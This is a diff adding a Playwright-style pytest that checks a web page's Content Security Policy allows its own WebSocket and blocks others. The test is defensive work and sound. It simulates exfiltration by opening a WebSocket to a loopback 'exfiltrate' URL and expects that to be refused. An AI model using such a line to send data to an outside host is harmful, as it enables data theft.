@@ -100,3 +100,28 @@ async def test_stop_mid_build_from_the_page(federation: Federation, browser: Any
     await page.click("#stop")
     await page.wait_for_selector("#bar.state-stopped", timeout=10_000)
     assert 30 <= await progress(page) < 100
+
+
+@pytest.mark.brokers("mosquitto")  # a browser policy: the broker does not matter
+async def test_the_page_may_open_its_own_socket_and_no_other_host(
+    federation: Federation, browser: Any
+) -> None:
+    page = await browser.new_page()
+    await page.add_init_script(
+        """window.__violations = [];
+        document.addEventListener("securitypolicyviolation",
+          (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));"""
+    )
+    await page.goto(federation.url)
+    await page.wait_for_selector("#connection.pill-ok")  # its own ws: origin is allowed
+    assert await page.evaluate("window.__violations") == []
+    # An injected script (were one ever to run) could not ship data to another host.
+    refused = await page.evaluate(
+        """() => { try { new WebSocket("ws://127.0.0.2:9/exfiltrate"); return false; }
+                   catch (e) { return e.name; } }"""
+    )
+    await page.wait_for_function("window.__violations.length > 0")
+    violations = await page.evaluate("window.__violations")
+    assert refused == "SecurityError" or any("connect-src" in v for v in violations)
+    assert all(v.startswith("connect-src") and "127.0.0.2" in v for v in violations)
+    await page.close()
